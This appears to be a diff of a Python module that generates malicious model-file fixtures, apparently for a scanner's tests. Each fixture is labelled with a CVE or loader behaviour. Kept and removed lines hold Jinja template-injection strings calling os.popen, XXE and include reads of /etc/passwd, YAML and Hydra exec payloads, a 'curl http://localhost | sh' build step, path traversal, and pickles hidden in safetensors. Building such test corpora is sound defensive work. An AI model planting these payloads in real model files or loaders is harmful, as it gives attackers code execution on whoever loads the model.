@@ -1,10 +1,25 @@
 """Folders, configurations and other formats: what a loader imports, renders, fetches or follows."""
 
+# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs
+
 import json
 import struct
 from typing import Any
 
-from .kit import EVIL, MARK, gguf, gguf_text, safetensors, tarred, technique, zipped
+from .kit import (
+    EVIL,
+    MARK,
+    field,
+    gguf,
+    gguf_text,
+    literal,
+    name_of,
+    program,
+    safetensors,
+    tarred,
+    technique,
+    zipped,
+)
 
 _EMPTY = safetensors(b"{}", b"")
 ECHO = f"echo {MARK}"
@@ -14,20 +29,11 @@ def _json(value: Any) -> bytes:
     return json.dumps(value).encode()
 
 
-# Templates ------------------------------------------------------------------------------------------------------------
-
 _SSTI = "CVE-2024-34359, llama-cpp-python: chat templates are programs of Jinja"
 
 _TEMPLATES = {
-    "attribute_by_filter": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('mro') }}",
-    "attribute_joined": "{{ messages[['__cl','ass__']|join] }}",
-    "globals_of_lipsum": "{{ lipsum.__globals__['os'].popen('echo').read() }}",
-    "init_of_cycler": "{{ cycler.__init__.__globals__.os.system('echo') }}",
     "context_of_the_template": "{{ self._TemplateReference__context.namespace.__init__.__globals__ }}",
-    "name_by_a_variable": "{% set a = '__' ~ 'class' ~ '__' %}{{ messages[a] }}",
-    "name_by_format": "{{ messages|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
     "name_by_reverse": "{{ messages|attr('__ssalc__'|reverse) }}",
-    "name_by_map": "{{ [messages]|map(attribute='__class__')|list }}",
     "file_included": "{% include '/etc/passwd' %}",
     "macro_imported": "{% import '/tmp/evil.jinja' as m %}{{ m.f() }}",
     "range_without_end": "{% for a in range(99999999) %}{% for b in range(99999999) %}x{% endfor %}{% endfor %}",
@@ -47,12 +53,7 @@ for _name, _text in _TEMPLATES.items():
     _gguf.__name__ = f"gguf_template_{_name}"
     technique(_SSTI, "template", "m.gguf")(_gguf)
 
-_POPEN = _TEMPLATES["globals_of_lipsum"]
-
-
-@technique("llama.cpp: named templates (tokenizer.chat_template.NAME)", "template", "m.gguf")
-def gguf_named_template():
-    return gguf([("tokenizer.chat_template.tool_use", 8, gguf_text(_POPEN))])
+_POPEN = "{{ lipsum.__globals__['os'].popen('echo').read() }}"
 
 
 @technique("GGUF specification: big-endian files", "template", "m.gguf")
@@ -82,27 +83,9 @@ def gguf_arrays_nested():
     return gguf([("a", 9, struct.pack("<IQ", 9, 1) * 200 + struct.pack("<IQ", 4, 1 << 60))])
 
 
-@technique(
-    "Mozilla llamafile: one file is a program of many systems and a model", "unknown format", "m.llamafile"
-)
-def llamafile_that_is_a_program():
-    return b"MZqFpD='\n\0\0" + b"\0" * 52 + b"'\necho x\n" + gguf([]) + zipped({".args": b"-m\nx.gguf\n"})
-
-
 @technique("ggml formats before GGUF", "unknown format", "m.bin")
 def ggjt_of_old():
     return b"tjgg" + struct.pack("<I", 3) + b"\xff" * 200
-
-
-@technique("Hugging Face, chat templates: a list of named templates", "template")
-def template_in_a_list():
-    named = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": _POPEN}]
-    return {"tokenizer_config.json": _json({"chat_template": named}), "model.safetensors": _EMPTY}
-
-
-@technique("Hugging Face, chat templates: chat_template.jinja", "template")
-def template_in_its_own_file():
-    return {"config.json": b"{}", "chat_template.jinja": _POPEN.encode(), "model.safetensors": _EMPTY}
 
 
 @technique("Hugging Face, chat templates: additional_chat_templates", "template")
@@ -114,8 +97,6 @@ def template_among_additional_ones():
 def template_of_a_processor():
     return {"config.json": b"{}", "chat_template.json": _json({"chat_template": _POPEN})}
 
-
-# Code by configuration ------------------------------------------------------------------------------------------------
 
 _AUTO = "Hugging Face, transformers: trust_remote_code and auto_map"
 
@@ -130,27 +111,10 @@ def auto_map_in_a_nested_configuration():
 
 
 @technique(_AUTO, "remote code")
-def auto_map_of_a_preprocessor():
-    return {
-        "config.json": b"{}",
-        "preprocessor_config.json": _json({"auto_map": {"AutoProcessor": "p.P"}}),
-        "p.py": b"x=1\n",
-    }
-
-
-@technique(_AUTO, "remote code")
 def auto_map_of_a_video_processor():
     return {
         "config.json": b"{}",
         "video_preprocessor_config.json": _json({"auto_map": {"AutoVideoProcessor": "p.P"}}),
-    }
-
-
-@technique("Hugging Face, pipelines: custom_pipelines in config.json", "remote code")
-def custom_pipeline_in_the_configuration():
-    return {
-        "config.json": _json({"custom_pipelines": {"x": {"impl": "pipeline.P", "pt": ["AutoModel"]}}}),
-        "pipeline.py": b"x=1\n",
     }
 
 
@@ -161,32 +125,6 @@ def custom_generate():
         "generation_config.json": b"{}",
         "custom_generate/generate.py": b"import os\nos.system('echo')\n",
     }
-
-
-@technique("Hugging Face, PEFT: auto_mapping imports a class", "remote code")
-def adapter_with_auto_mapping():
-    mapping = {"base_model_class": "system", "parent_library": "os"}
-    return {
-        "adapter_config.json": _json(
-            {"peft_type": "LORA", "auto_mapping": mapping, "base_model_name_or_path": "x/y"}
-        )
-    }
-
-
-@technique("diffusers, model_index.json: a component of a module in the folder", "remote code")
-def pipeline_of_a_module_in_the_folder():
-    index = {
-        "_class_name": ["pipeline", "Evil"],
-        "_diffusers_version": "0.30.0",
-        "unet": ["evil_unet", "Net"],
-    }
-    return {"model_index.json": _json(index), "pipeline.py": b"x=1\n", "unet/evil_unet.py": b"x=1\n"}
-
-
-@technique("sentence-transformers, modules.json: type is imported", "remote code")
-def module_of_sentence_transformers():
-    modules = [{"idx": 0, "name": "0", "path": "", "type": "evil.module.Transformer"}]
-    return {"modules.json": _json(modules), "config.json": b"{}", "evil/module.py": b"x=1\n"}
 
 
 @technique("sentence-transformers: model_args with trust_remote_code", "remote code")
@@ -219,21 +157,7 @@ def index_that_leaves_the_folder():
     }
 
 
-@technique("transformers, sharded checkpoints: the index names the files", "path")
-def index_of_safetensors_that_leaves():
-    return {
-        "config.json": b"{}",
-        "model.safetensors.index.json": _json({"metadata": {}, "weight_map": {"w": "/tmp/evil.bin"}}),
-    }
-
-
 _HYDRA = "Unit 42, January 2026; CVE-2025-23304 and CVE-2026-22584: _target_ of Hydra is called"
-
-
-@technique(_HYDRA, "remote code", "m.nemo")
-def target_in_a_nemo():
-    config = f"target: nemo.x.Model\nencoder:\n  _target_: builtins.exec\n  _args_: ['print(\"{MARK}\")']\n"
-    return tarred(("./model_config.yaml", config.encode()), ("./model_weights.ckpt", b""))
 
 
 @technique(_HYDRA, "remote code")
@@ -260,21 +184,6 @@ def resolver_in_a_yaml():
 @technique("Ultralytics: modules and arguments of a model's YAML were evaluated", "remote code")
 def yaml_of_yolo():
     return {"yolo.yaml": b"nc: 80\nbackbone:\n  - [-1, 1, \"__import__('os').system('echo')\", [64, 3, 2]]\n"}
-
-
-@technique("PyYAML, full and unsafe loaders: tags make objects", "remote code")
-def yaml_with_a_python_tag():
-    return {"hyperparams.yaml": b"lr: !!python/object/new:os.system [echo]\n"}
-
-
-@technique("MLflow: loader_module and code of the flavour python_function are imported", "remote code")
-def mlflow_loader_module():
-    text = "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: model\n"
-    return {
-        "MLmodel": text.encode(),
-        "code/evil_loader.py": b"import os\nos.system('echo')\n",
-        "model/x": b"x",
-    }
 
 
 @technique("MLflow: models from code (model_code_path)", "remote code")
@@ -322,22 +231,6 @@ def sagemaker_inference():
     )
 
 
-@technique(
-    "TorchServe: the manifest's handler is a path, its requirements are installed", "remote code", "m.mar"
-)
-def torchserve_handler():
-    manifest = {
-        "model": {
-            "handler": "../../evil.py:handle",
-            "serializedFile": "m.pt",
-            "requirementsFile": "requirements.txt",
-        }
-    }
-    return zipped(
-        {"MAR-INF/MANIFEST.json": _json(manifest), "requirements.txt": b"evil @ http://localhost/e.whl\n"}
-    )
-
-
 @technique("Seldon MLServer: implementation is imported", "remote code")
 def mlserver_implementation():
     return {
@@ -353,9 +246,6 @@ def cog_predictor():
         "cog.yaml": b"build:\n  run:\n    - curl http://localhost | sh\npredict: 'predict.py:Predictor'\n",
         "predict.py": b"x=1\n",
     }
-
-
-# Other formats --------------------------------------------------------------------------------------------------------
 
 
 @technique("CVE-2023-47248, PyArrow: an extension type's metadata is a pickle", "global", "m.arrow")
@@ -404,11 +294,6 @@ def msgpack_with_an_unknown_extension():
     return bytes(msgpack.packb({"params": msgpack.ExtType(42, EVIL)}))
 
 
-@technique("CVE-2024-27322, R: a promise in an RDS is evaluated", "unknown format", "m.rds")
-def promise_of_r():
-    return b"X\n" + struct.pack(">iii", 3, 0x40300, 0x30500) + struct.pack(">i", 5) + b"\0" * 32
-
-
 @technique(
     "Julia documentation, Serialization: deserialize runs what the file says", "unknown format", "m.jls"
 )
@@ -438,15 +323,6 @@ def compiled_module_in_a_folder():
     return {"config.json": b"{}", "modeling.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40}
 
 
-@technique("ELF: a native library beside a model (custom ops)", "unknown format")
-def native_library_in_a_folder():
-    return {
-        "config.json": b"{}",
-        "custom_ops.so": b"\x7fELF\x02\x01\x01" + b"\0" * 57,
-        "model.safetensors": _EMPTY,
-    }
-
-
 @technique("Torch7, File:readObject: functions are dumped Lua bytecode", "unknown format", "m.t7")
 def lua_function_of_torch7():
     return struct.pack("<iii", 6, 1, 4) + b"\x1bLJ\x02" + b"\0" * 40
@@ -470,16 +346,12 @@ def caffe_python_layer():
 
 @technique("PaddlePaddle: py_func in a program", "operator", "m.pdmodel")
 def paddle_py_func():
-    from .kit import field
-
     operator = field(3, "py_func")
     return field(1, field(1, 0) + field(2, 0) + field(4, operator))
 
 
 @technique("Apple Core ML: a custom layer is looked up by class name", "operator", "m.mlmodel")
 def coreml_custom_layer():
-    from .kit import field
-
     layer = field(1, "c") + field(500, field(10, "EvilLayer"))
     return field(1, 4) + field(500, field(1, layer))
 
@@ -488,11 +360,6 @@ def coreml_custom_layer():
 def openvino_with_an_entity():
     xml = b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;" version="11"></net>'
     return {"model.xml": xml, "model.bin": b"\0" * 16}
-
-
-@technique("PMML: XML with entities; some engines run its extensions", "unknown format", "m.pmml")
-def pmml_with_an_entity():
-    return b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><PMML version="4.4">&b;</PMML>'
 
 
 @technique(
@@ -517,22 +384,9 @@ def matlab_objects():
     return b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM" + struct.pack("<II", 17, 8) + b"\0" * 8
 
 
-# safetensors ----------------------------------------------------------------------------------------------------------
-
 _ST = "safetensors, format: header of at most 100 MB, unique keys, no holes, no overlap (Trail of Bits review, 2023)"
 
 for _name, _bytes in {
-    "safetensors_pickle_in_a_hole": safetensors(
-        b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[1],"data_offsets":[%d,%d]}}'
-        % (len(EVIL) + 1, len(EVIL) + 2),
-        b"\0" + EVIL + b"\0",
-    ),
-    "safetensors_pickle_behind": safetensors(
-        b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b"\0" + EVIL
-    ),
-    "safetensors_shape_overflows": safetensors(
-        b'{"a":{"dtype":"F32","shape":[4294967296,4294967296,4],"data_offsets":[0,0]}}', b""
-    ),
     "safetensors_metadata_of_objects": safetensors(b'{"__metadata__":{"a":{"b":[1]}}}', b""),
     "safetensors_nan_in_the_header": safetensors(
         b'{"a":{"dtype":"U8","shape":[NaN],"data_offsets":[0,1]}}', b"\0"
@@ -555,13 +409,8 @@ for _name, _bytes in {
     technique(_ST, "malformed", "m.safetensors")(_given)
 
 
-# Trees ----------------------------------------------------------------------------------------------------------------
-
-
 @technique("XGBoost, JSON and UBJSON models: Booster in a pickle takes its bytes from the state", "malformed")
 def xgboost_handle_that_is_no_model():
-    from .kit import literal, name_of, program
-
     body = program(
         name_of("xgboost.core", "Booster"),
         b")\x81",
